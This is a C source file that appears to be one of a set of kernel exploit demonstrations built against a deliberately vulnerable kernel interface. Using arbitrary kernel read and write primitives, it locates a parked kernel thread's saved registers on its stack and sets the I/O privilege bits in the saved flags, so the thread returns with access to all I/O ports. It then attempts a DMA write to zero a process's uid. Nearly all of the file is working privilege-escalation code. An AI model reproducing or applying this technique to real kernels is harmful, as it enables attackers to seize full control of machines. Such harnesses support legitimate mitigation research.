/* The registers of a program that is in the kernel lie on its stack there, its flags among them:
 * the privilege level for I/O is raised. */
#include "attack.h"

enum { CPU_OF_WRITER, CPU_OF_PARKED, NR_CPUS };
enum { STAGE_KNOWN = 1, STAGE_DONE };
enum { RFLAGS_IOPL = 3 << 12, STACK_BYTES = 16 * 1024, PAGE_OFFSETS = 2 * BW_PAGE_SIZE };
#define MARK 0x1122334455667788ul

static attack_stage stage;
static struct bw_leak parked;
static bool has_ports;

/* Comes back from a call with the flags that lie on its stack by then. */
static void park(void *unused)
{
	uint64_t flags;

	(void)unused;
	attack_leak(&parked);
	attack_dma_prepare();
	attack_tell(&stage, STAGE_KNOWN);
	/* to the end of its own stack, which nothing has ever reached */
	bw_vuln_write_parked(parked.stack_top - STACK_BYTES + sizeof(uint64_t), MARK);
	__asm__ volatile("pushfq\n\tpop %0" : "=r"(flags));
	has_ports = (flags & RFLAGS_IOPL) == RFLAGS_IOPL;
	if (has_ports && !attack_dma_zero32(parked.uid_pa)) {
		attack_skip("this machine has no device that writes where it is told to");
	}
	attack_tell(&stage, STAGE_DONE);
}

/* The flags among the registers that the call saved: it is known by its arguments. 0: not found. */
static uint64_t find_flags(void)
{
	uint64_t target = parked.stack_top - STACK_BYTES + sizeof(uint64_t);

	for (uint64_t at = parked.stack_top - sizeof(struct bw_frame);
	     at > parked.stack_top - PAGE_OFFSETS; at -= sizeof(uint64_t)) {
		if ((uint64_t)bw_vuln_read(at + offsetof(struct bw_frame, rsi)) == MARK &&
		    (uint64_t)bw_vuln_read(at + offsetof(struct bw_frame, rdi)) == target) {
			return at + offsetof(struct bw_frame, rflags);
		}
	}
	return 0;
}

int main(void)
{
	struct bw_leak leak;
	uint64_t flags;

	attack_begin(&leak, NR_CPUS, CPU_OF_WRITER);
	attack_thread(CPU_OF_PARKED, park, NULL);
	attack_await(&stage, STAGE_KNOWN, AWAIT_YIELD);
	attack_await_parked(1);
	flags = find_flags();
	if (flags == 0) {
		bw_vuln_unpark(true);
		attack_skip("the saved registers are not where they should be");
	}
	attack_say("the flags of a thread in the kernel lie at 0x%lx", flags);
	attack_check("vuln_write",
		     bw_vuln_write(flags, (uint64_t)bw_vuln_read(flags) | RFLAGS_IOPL));
	bw_vuln_unpark(true);
	attack_await(&stage, STAGE_DONE, AWAIT_YIELD);
	attack_say("it came back with%s", has_ports ? " all I/O ports" : "out them");
	return attack_finish();
}
